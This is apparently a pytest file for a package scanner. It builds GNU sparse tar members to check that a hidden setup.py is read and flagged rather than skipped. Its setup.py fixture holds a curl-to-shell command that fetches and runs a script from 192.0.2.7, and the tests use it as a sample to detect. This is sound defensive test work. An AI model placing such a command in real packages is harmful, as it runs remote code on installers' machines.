"""GNU sparse members are read as pip's tarfile extracts them, not skipped.

A ``setup.py`` stored as a sparse member used to be skipped ("sparse file member: not read"):
pip would run it, the reviewer would not see it. Each tar here is built byte by byte in the
GNU formats tarfile reads (old ``S`` headers, pax 0.0, 0.1 and 1.0), and the test first checks
that tarfile itself extracts the expected content, so the fixture is what an installer sees.
"""

from __future__ import annotations

import io
import tarfile

import pytest

from app.core.archive import open_bytes
from app.core.capabilities.scan import scan_artifact

SETUP = (
    b"import os\n"
    b"from setuptools import setup\n"
    b"os.system('curl -s http://192.0.2.7/x.sh | sh')\n"
    b"setup(name='demo', version='1.0')\n"
)
PKG_INFO = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
# A data file with holes: "head", 5000 zeros, "tail", 3000 zeros.
HOLEY_CHUNKS = [(0, b"head"), (5004, b"tail")]
HOLEY_SIZE = 5008 + 3000
HOLEY = b"head" + bytes(5000) + b"tail" + bytes(3000)


def _pad(data: bytes) -> bytes:
    return data + bytes(-len(data) % 512)


def _header(name: str, size: int, typ: bytes = tarfile.REGTYPE, fmt=tarfile.USTAR_FORMAT):
    info = tarfile.TarInfo(name)
    info.size, info.type, info.mode = size, typ, 0o644
    return info.tobuf(format=fmt)


def _pax(records: list[tuple[str, str]]) -> bytes:
    out = b""
    for key, value in records:
        body = f" {key}={value}\n".encode()
        n = len(body) + 1
        while len(str(n)) + len(body) != n:
            n = len(str(n)) + len(body)
        out += str(n).encode() + body
    return _header("././@PaxHeader", len(out), tarfile.XHDTYPE) + _pad(out)


def _member(name: str, data: bytes) -> bytes:
    return _header(name, len(data)) + _pad(data)


def _stored(chunks):
    return b"".join(data for _, data in chunks)


def pax_00(name, chunks, real):
    recs = [("GNU.sparse.size", str(real)), ("GNU.sparse.numblocks", str(len(chunks)))]
    for off, data in chunks:
        recs += [("GNU.sparse.offset", str(off)), ("GNU.sparse.numbytes", str(len(data)))]
    return _pax(recs) + _member(name, _stored(chunks))


def pax_01(name, chunks, real):
    flat = ",".join(f"{off},{len(data)}" for off, data in chunks)
    recs = [
        ("GNU.sparse.size", str(real)),
        ("GNU.sparse.numblocks", str(len(chunks))),
        ("GNU.sparse.map", flat),
        ("GNU.sparse.name", name),
    ]
    return _pax(recs) + _member("demo-1.0/GNUSparseFile.0/x", _stored(chunks))


def pax_10(name, chunks, real):
    recs = [
        ("GNU.sparse.major", "1"),
        ("GNU.sparse.minor", "0"),
        ("GNU.sparse.name", name),
        ("GNU.sparse.realsize", str(real)),
    ]
    lines = [str(len(chunks))] + [f"{x}" for off, d in chunks for x in (off, len(d))]
    data = _pad(("\n".join(lines) + "\n").encode()) + _stored(chunks)
    return _pax(recs) + _member("demo-1.0/GNUSparseFile.0/x", data)


def old_gnu(name, chunks, real):
    block = bytearray(
        _header(name, len(_stored(chunks)), tarfile.GNUTYPE_SPARSE, tarfile.GNU_FORMAT)
    )
    first, rest = chunks[:4], chunks[4:]
    for i, (off, data) in enumerate(first):
        block[386 + 24 * i : 398 + 24 * i] = b"%011o\x00" % off
        block[398 + 24 * i : 410 + 24 * i] = b"%011o\x00" % len(data)
    block[482] = 1 if rest else 0
    block[483:495] = b"%011o\x00" % real
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\x00 " % sum(block)
    ext = b""
    if rest:
        e = bytearray(512)
        for i, (off, data) in enumerate(rest):
            e[24 * i : 24 * i + 12] = b"%011o\x00" % off
            e[24 * i + 12 : 24 * i + 24] = b"%011o\x00" % len(data)
        ext = bytes(e)
    return bytes(block) + ext + _pad(_stored(chunks))


FORMATS = {"pax-0.0": pax_00, "pax-0.1": pax_01, "pax-1.0": pax_10, "old-gnu": old_gnu}


def _sdist(fmt, setup_chunks=None, holey_chunks=None) -> bytes:
    build = FORMATS[fmt]
    setup_chunks = setup_chunks or [(0, SETUP)]
    raw = (
        _member("demo-1.0/PKG-INFO", PKG_INFO)
        + build("demo-1.0/setup.py", setup_chunks, len(SETUP))
        + build("demo-1.0/data.bin", holey_chunks or HOLEY_CHUNKS, HOLEY_SIZE)
        + bytes(1024)
    )
    return raw


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_sparse_members_are_read_as_tarfile_extracts_them(fmt):
    raw = _sdist(fmt)
    with tarfile.open(fileobj=io.BytesIO(raw)) as tf:  # what pip's unpacker sees
        seen = {m.name: tf.extractfile(m).read() for m in tf.getmembers() if m.isfile()}
    assert seen["demo-1.0/setup.py"] == SETUP and seen["demo-1.0/data.bin"] == HOLEY

    art = open_bytes(raw, "demo-1.0.tar")
    setup, data = art.member("setup.py"), art.member("data.bin")
    assert setup is not None and data is not None, [m.path for m in art.members]
    assert setup.data == SETUP and "sparse" in setup.flags
    assert data.size == HOLEY_SIZE
    assert not [s for s in art.skips if "sparse" in s.reason]

    result = scan_artifact(art)
    shell = [h for h in result.findings if h.path == "setup.py" and "192.0.2.7" in h.match]
    assert shell and result.risk.level in ("high", "critical")


def test_a_setup_py_split_over_many_chunks_and_extension_blocks():
    # Seven chunks in an old GNU header: four in the header, three in an extension block.
    cuts = [0, 10, 30, 50, 70, 90, 110, len(SETUP)]
    chunks = [(a, SETUP[a:b]) for a, b in zip(cuts, cuts[1:], strict=False)]
    raw = _sdist("old-gnu", setup_chunks=chunks)
    with tarfile.open(fileobj=io.BytesIO(raw)) as tf:
        assert tf.extractfile("demo-1.0/setup.py").read() == SETUP
    art = open_bytes(raw, "demo-1.0.tar")
    assert art.member("setup.py").data == SETUP
    assert art.member("data.bin").size == HOLEY_SIZE  # the member after it is in step


@pytest.mark.parametrize(
    "records, why",
    [
        ([("GNU.sparse.size", "100"), ("GNU.sparse.map", "0,10,5,10")], "overlap"),
        ([("GNU.sparse.size", "10"), ("GNU.sparse.map", "0,50")], "past the file's size"),
        ([("GNU.sparse.size", "100"), ("GNU.sparse.map", "0,x")], "not a number"),
        ([("GNU.sparse.size", "9" * 15), ("GNU.sparse.map", "0,4")], "member too large"),
    ],
)
def test_an_unusable_sparse_map_is_a_recorded_skip_and_the_next_member_is_read(records, why):
    raw = (
        _pax([*records, ("GNU.sparse.name", "demo-1.0/setup.py")])
        + _member("demo-1.0/GNUSparseFile.0/x", b"zzzz")
        + _member("demo-1.0/after.py", b"import os\n")
        + _member("demo-1.0/PKG-INFO", PKG_INFO)
        + bytes(1024)
    )
    art = open_bytes(raw, "demo-1.0.tar")
    (skip,) = [s for s in art.skips if s.path.endswith("setup.py")]
    assert why in skip.reason
    assert art.member("after.py").data == b"import os\n"
    unread = [h for h in scan_artifact(art).findings if h.capability == "scan.unread"]
    assert any(h.path.endswith("setup.py") for h in unread)
